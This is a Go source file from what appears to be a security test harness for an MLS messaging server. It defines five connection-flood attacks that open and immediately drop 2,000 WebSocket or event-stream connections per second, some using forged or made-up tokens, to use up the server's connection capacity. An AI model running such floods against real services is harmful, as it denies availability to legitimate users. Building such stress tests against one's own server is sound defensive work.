package attack

import (
	"context"
	"time"

	"mlsd/api/mlsapi"
	"mlsd/clientsim/xrpc"
)

// H5: streams that are opened and closed at once use up the openings of all callers.
func openings() []Attack {
	return []Attack{
		{"openings", "H5", "2,000 WebSockets per second without a token, which hang up at once",
			hangUps(mlsapi.NSIDSubscribeConvoEvents, noToken)},
		{"openings-sse", "H5", "2,000 event streams per second without a token, which hang up at once",
			hangUps(mlsapi.NSIDStreamConvoEvents, noToken)},
		{"openings-ticket", "H5", "2,000 WebSockets per second with made-up tickets, which hang up at once",
			hangUps(mlsapi.NSIDSubscribeConvoEvents, madeUpTicket)},
		{"openings-forged", "H5", "2,000 WebSockets per second with forged tokens, which hang up at once",
			hangUps(mlsapi.NSIDSubscribeConvoEvents, forgedToken)},
		{"openings-account", "H5", "2,000 WebSockets per second of 40 accounts with valid tokens, which hang up at once",
			hangUps(mlsapi.NSIDSubscribeConvoEvents, ownAccounts)},
	}
}

// pass returns the query and the authorization that open the i-th stream.
type pass func(i int) (query, token string)

func noToken(*Target, string) pass {
	return func(int) (string, string) { return "", "none" }
}

func madeUpTicket(*Target, string) pass {
	return func(int) (string, string) { return "?ticket=" + string(unknownDID())[8:], "none" }
}

func forgedToken(t *Target, method string) pass {
	return func(i int) (string, string) { return "", forge(t.Victims[i%len(t.Victims)], t.Audience, method) }
}

// ownAccounts uses tokens of the attacker's accounts.
func ownAccounts(t *Target, method string) pass {
	accounts := t.accounts(40)
	tokens := t.tokens(accounts, method)
	return func(i int) (string, string) { return "", tokens[i%len(tokens)] }
}

// The rate of the openings, and how long each lasts. A client that leaves sooner gives its place
// back.
const (
	openingRate  = 2000
	openingLanes = 512
	openFor      = 50 * time.Millisecond
)

func hangUps(method string, by func(*Target, string) pass) prepare {
	return func(_ context.Context, t *Target) *Prepared {
		next := by(t, method)
		return &Prepared{Run: func(ctx context.Context) {
			pace(ctx, openingRate, openingLanes, func(ctx context.Context, i int) {
				query, token := next(i)
				t.tried()
				t.hangUp(ctx, "GET /xrpc/"+method+query+" HTTP/1.1\r\nHost: "+t.Addr+"\r\nAuthorization: Bearer "+token+
					"\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: "+
					"AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n")
			})
		}}
	}
}

// hangUp sends a request and closes the connection without reading. It does not reset the
// connection: after a reset the server could not read the request, so the request would cost
// nothing.
func (t *Target) hangUp(ctx context.Context, request string) {
	_, end, err := t.open(ctx, 0, request)
	if err != nil {
		t.answered(0)
		return
	}
	xrpc.Sleep(ctx, openFor)
	end()
}
